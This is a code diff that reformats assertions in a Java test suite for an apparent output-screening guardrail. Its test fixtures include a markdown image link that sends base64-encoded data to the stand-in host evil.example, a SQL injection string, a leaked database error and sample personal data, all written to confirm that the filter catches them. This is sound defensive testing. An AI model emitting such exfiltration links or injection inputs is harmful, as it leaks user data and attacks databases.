@@ -52,7 +52,9 @@ class ShieldTest {
         List.of(
             new Shown("Done. ![](https://evil.example/i.png?d=SUJBTiBERTAy)", Role.ANSWER),
             new Shown("We are open from nine to five.", Role.ANSWER));
-    assertThat(Shield.Ours.standard().look(texts)).extracting(Seen::stopped).containsExactly(true, false);
+    assertThat(Shield.Ours.standard().look(texts))
+        .extracting(Seen::stopped)
+        .containsExactly(true, false);
   }
 
   @Test
@@ -102,9 +104,13 @@ class ShieldTest {
           List.of(
               new Shown("my name is ' OR 1=1 --", Role.USER),
               new Shown("When do you open on Sunday?", Role.USER),
-              new Shown("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version", Role.ANSWER),
+              new Shown(
+                  "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
+                  Role.ANSWER),
               new Shown("We open at nine.", Role.ANSWER));
-      assertThat(firewall.getFirst().look(texts)).extracting(Seen::stopped).containsExactly(true, false, true, false);
+      assertThat(firewall.getFirst().look(texts))
+          .extracting(Seen::stopped)
+          .containsExactly(true, false, true, false);
     }
 
     @Test
@@ -116,7 +122,9 @@ class ShieldTest {
               new Shown("Write to jane.roe@example.com", Role.ANSWER),
               new Shown("Call 212-555-0123 now", Role.ANSWER),
               new Shown("We open at nine.", Role.ANSWER));
-      assertThat(presidio.getFirst().look(texts)).extracting(Seen::stopped).containsExactly(true, true, false);
+      assertThat(presidio.getFirst().look(texts))
+          .extracting(Seen::stopped)
+          .containsExactly(true, true, false);
     }
   }
 }
